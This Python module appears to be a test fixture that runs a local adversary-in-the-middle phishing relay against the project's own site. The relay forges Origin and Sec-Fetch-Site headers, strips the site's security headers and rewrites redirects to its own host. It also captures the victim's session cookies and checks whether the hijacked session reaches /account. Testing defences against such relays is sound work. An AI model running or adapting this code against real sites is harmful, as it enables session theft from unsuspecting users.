"""An adversary in the middle: a site of another origin that passes everything on to the real one, and keeps the cookies.

This is what phishing kits do: the victim sees our pages, types what it is asked for, and the kit's own cookie jar gets the
session. It makes every request look like one of our own pages' (Origin, Sec-Fetch-Site), takes our policy off, and puts
its own name, where that helps, into what goes to the browser.
"""

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx

KEPT = {"accept", "accept-language", "content-type", "user-agent"}


class Quiet(ThreadingHTTPServer):
    """Browsers that go elsewhere in the middle of an answer are no news."""

    def handle_error(self, _request, _address):
        """Nothing."""


class Kit:
    """One relay: `upstream` is the real site, `name` the host that the victim sees."""

    def __init__(self, upstream, verify, name):
        self.client = httpx.Client(base_url=upstream, verify=verify, timeout=30)
        self.upstream = upstream
        self.jar = {}
        self.lock = threading.Lock()
        self.rewrites = []
        kit = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self._pass("GET", b"")

            def do_POST(self):
                self._pass("POST", self.rfile.read(int(self.headers.get("content-length", "0"))))

            def _pass(self, method, body):
                status, headers, content = kit.relayed(method, self.path, dict(self.headers), body)
                self.send_response(status)
                for key, value in headers:
                    self.send_header(key, value)
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *_):
                """Quiet."""

        self.server = Quiet(("127.0.0.1", 0), Handler)
        self.origin = f"http://{name}:{self.server.server_port}"

    def relayed(self, method, path, headers, body):
        """One request passed on, and what comes back."""
        given = {key: value for key, value in headers.items() if key.lower() in KEPT}
        given |= {"origin": self.upstream, "sec-fetch-site": "same-origin"}
        with self.lock:
            given["cookie"] = "; ".join(f"{name}={value}" for name, value in self.jar.items())
            self.client.cookies.clear()
            answer = self.client.request(method, path, headers=given, content=body)
            for each in answer.headers.get_list("set-cookie"):
                name, _, value = each.partition(";")[0].partition("=")
                self.jar.pop(name, None)
                if value:
                    self.jar[name] = value
        content = answer.content
        for old, new in self.rewrites:
            content = content.replace(old, new)
        shown = [
            ("content-type", answer.headers.get("content-type", "text/plain")),
            ("content-length", str(len(content))),
        ]
        if "location" in answer.headers:
            shown.append(("location", answer.headers["location"].replace(self.upstream, self.origin)))
        return answer.status_code, shown, content

    def forget(self):
        """A new victim."""
        self.jar.clear()

    def is_in(self):
        """Whether the kit has a session that works."""
        if not any("session" in name for name in self.jar):
            return False
        cookie = "; ".join(f"{name}={value}" for name, value in self.jar.items())
        self.client.cookies.clear()
        return self.client.get("/account", headers={"cookie": cookie}).status_code == 200


@contextmanager
def relay(upstream, verify, name="login.localhost"):
    """A running kit."""
    kit = Kit(upstream, verify, name)
    thread = threading.Thread(target=kit.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield kit
    finally:
        kit.server.shutdown()
        kit.server.server_close()
        kit.client.close()
        thread.join(30)
